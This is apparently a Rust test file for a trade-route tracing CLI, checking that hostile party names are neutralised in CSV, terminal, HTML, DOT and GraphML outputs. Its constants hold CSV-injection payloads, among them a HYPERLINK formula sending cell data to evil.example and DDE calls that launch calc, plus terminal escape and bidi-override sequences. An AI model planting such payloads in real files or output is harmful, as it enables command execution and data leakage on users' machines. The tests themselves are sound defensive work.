//! Hostile names from the data never become a spreadsheet formula (CSV
//! outputs), a terminal escape (table outputs) or markup (DOT, HTML,
//! GraphML); JSON keeps them exact.

mod common;

use std::path::{Path, PathBuf};

use common::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
const ESCAPES: &str = "\u{1b}[31mFalcon\u{7}\u{8}\u{202e}Crest\u{9b}2J";
const PLUS: &str = "+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

fn csv_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// The small bundle with hostile names on every party of its route.
fn hostile_case(dir: &Path) -> PathBuf {
    let bundle = dir.join("hostile");
    copy_dir(&fixture("bundles/small"), &bundle);
    let ents = std::fs::read_to_string(bundle.join("entities.csv")).unwrap();
    let mut out = String::new();
    for line in ents.lines() {
        let new = match line.split(',').next() {
            Some("DE1") => line.replacen("Rheinfeld Elektronik GmbH", &csv_quote(AT), 1),
            Some("TR1") => line.replacen("Denkar Dış Ticaret Ltd. Şti.", &csv_quote(FORMULA), 1),
            Some("AE1") => line.replacen("Falcon Crest General Trading FZE", &csv_quote(ESCAPES), 1),
            Some("RU1") => line.replacen("\"ООО «Вектор-Микро»\"", &csv_quote(PLUS), 1),
            Some("US1") => line.replacen("Halvorsen Microdevices Inc", &csv_quote(MINUS), 1),
            _ => line.to_string(),
        };
        out += &new;
        out.push('\n');
    }
    std::fs::write(bundle.join("entities.csv"), out).unwrap();
    let case = dir.join("case.db");
    divtrace(["ingest".as_ref(), bundle.as_os_str(), "--case".as_ref(), case.as_os_str(), "-q".as_ref()]).ok();
    case
}

fn run(case: &Path, args: &[&str]) -> String {
    let mut a: Vec<std::ffi::OsString> = args.iter().map(Into::into).collect();
    a.insert(1, "--case".into());
    a.insert(2, case.into());
    divtrace(a).ok().stdout
}

const ROUTE: &[&str] = &["--from", "country:US", "--to", "country:RU"];

/// Every cell of every record, checked the way a spreadsheet reads it.
fn assert_no_formula(text: &str, what: &str) {
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut cells = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            let first = cell.chars().next();
            let number = cell.parse::<f64>().is_ok() && !cell.contains(|c: char| c.is_alphabetic());
            assert!(
                number || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{what}: cell {cell:?} would be evaluated by a spreadsheet\n{text}"
            );
        }
    }
    assert!(cells > 0, "{what}: no cells");
}

#[test]
fn csv_outputs_neutralise_formulas() {
    let tmp = tempfile::tempdir().unwrap();
    let case = hostile_case(tmp.path());
    let outputs = [
        ("routes", run(&case, &[&["routes"], ROUTE, &["--format", "csv"]].concat())),
        ("routes --group", run(&case, &[&["routes"], ROUTE, &["--group", "--format", "csv"]].concat())),
        ("assess", run(&case, &["assess", "--all", "--format", "csv"])),
        ("hubs", run(&case, &[&["hubs"], ROUTE, &["--format", "csv"]].concat())),
        ("info", run(&case, &["info", "--format", "csv"])),
    ];
    for (what, text) in &outputs {
        assert_no_formula(text, what);
    }
    // The text is all there after the quote.
    let routes = &outputs[0].1;
    let mut r = csv::Reader::from_reader(routes.as_bytes());
    let names: Vec<String> = r.records().map(|x| x.unwrap()[6].to_string()).collect();
    assert!(names.contains(&format!("'{FORMULA}")), "{names:?}");
    assert!(names.contains(&format!("'{MINUS}")), "{names:?}");
    // Numbers written by divtrace stay numbers.
    assert!(routes.lines().nth(1).unwrap().starts_with("1,"), "{routes}");
}

#[test]
fn rejects_csv_neutralises_formulas() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = tmp.path().join("b");
    copy_dir(&fixture("bundles/small"), &bundle);
    let mut ships = std::fs::read_to_string(bundle.join("shipments.csv")).unwrap();
    ships += &format!("{},2022-13-01,US1,DE1,854231,{},,,,,,,,,,\n", csv_quote(FORMULA), csv_quote(PLUS));
    std::fs::write(bundle.join("shipments.csv"), ships).unwrap();
    let rejects = tmp.path().join("rejects.csv");
    let case = tmp.path().join("c.db");
    divtrace([
        "ingest".as_ref(),
        bundle.as_os_str(),
        "--case".as_ref(),
        case.as_os_str(),
        "-q".as_ref(),
        "--skip-invalid".as_ref(),
        "--rejects".as_ref(),
        rejects.as_os_str(),
    ])
    .ok();
    let text = std::fs::read_to_string(&rejects).unwrap();
    assert_no_formula(&text, "rejects");
}

fn assert_terminal_safe(text: &str, what: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{8}', '\u{202e}', '\u{9b}', '\r'] {
        assert!(!text.contains(c), "{what}: raw {c:?} reached the terminal:\n{text}");
    }
}

#[test]
fn tables_show_escapes_visibly_and_json_stays_exact() {
    let tmp = tempfile::tempdir().unwrap();
    let case = hostile_case(tmp.path());
    let routes = run(&case, &[&["routes"], ROUTE].concat());
    assert_terminal_safe(&routes, "routes");
    assert!(routes.contains("\\u{1b}[31mFalcon\\u{7}\\u{8}\\u{202e}Crest\\u{9b}2J"), "{routes}");
    for (what, args) in [
        ("routes --group", [&["routes"], ROUTE, &["--group"]].concat()),
        ("assess --all", vec!["assess", "--all"]),
        ("hubs", [&["hubs"], ROUTE].concat()),
        ("info", vec!["info"]),
        ("resolve", vec!["resolve"]),
    ] {
        let text = run(&case, &args);
        assert_terminal_safe(&text, what);
    }
    let json = run(&case, &[&["routes"], ROUTE, &["--format", "json"]].concat());
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let names: Vec<&str> = v["routes"][0]["hops"].as_array().unwrap().iter().map(|h| h["consignee_name"].as_str().unwrap()).collect();
    assert!(names.contains(&ESCAPES), "JSON keeps the name exact: {names:?}");
}

#[test]
fn investigate_tables_keep_one_party_per_line() {
    // investigate prints its own tables (routes, parties by risk): a line
    // break inside a name must not start a forged row in either of them.
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let text = divtrace(["investigate".as_ref(), fixture("bundles/hostile").as_os_str(), "--out".as_ref(), out.as_os_str()]).ok().stdout;
    assert_terminal_safe(&text, "investigate");
    assert!(text.contains("Parties on these routes"), "{text}");
    assert!(!text.lines().any(|l| l.starts_with("real lines")), "a name's line break started a new row:\n{text}");
    assert!(text.contains("Two\\u{a}real lines [RU3] (RU)"), "the party is shown on one line, its break visible:\n{text}");
}

#[test]
fn error_messages_show_escapes_visibly() {
    let tmp = tempfile::tempdir().unwrap();
    let case = hostile_case(tmp.path());
    let out = divtrace([
        "routes".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--from".as_ref(),
        "entity:\u{1b}]0;owned\u{7}".as_ref(),
        "--to".as_ref(),
        "country:RU".as_ref(),
    ])
    .failed();
    assert_terminal_safe(&out.stderr, "error");
}

#[test]
fn diagrams_and_reports_keep_hostile_text_inert() {
    let tmp = tempfile::tempdir().unwrap();
    let case = hostile_case(tmp.path());
    let dir = tmp.path().join("report");
    run(&case, &[&["report"], ROUTE, &["--out", dir.to_str().unwrap()]].concat());
    let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
    assert!(!html.contains('\u{202e}') && !html.contains('\u{1b}'), "raw bidi/escape in the HTML");
    assert!(html.contains("\\u{202e}Crest"), "shown visibly");
    let dot = std::fs::read_to_string(dir.join("routes.dot")).unwrap();
    assert!(!dot.contains('\u{202e}') && !dot.contains('\u{1b}'));
    check_dot(&dir.join("routes.dot"));
    let json: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(dir.join("report.json")).unwrap()).unwrap();
    assert!(json["parties"].as_array().unwrap().iter().any(|p| p["name"] == ESCAPES), "report.json keeps the name exact");
    let gml = tmp.path().join("r.graphml");
    run(&case, &[&["export"], ROUTE, &["--format", "graphml", "--out", gml.to_str().unwrap()]].concat());
    let g = std::fs::read_to_string(&gml).unwrap();
    assert!(!g.contains('\u{202e}') && !g.contains('\u{1b}') && !g.contains('\r'), "{g}");
    assert!(g.contains("&#x202E;Crest"), "{g}");
}
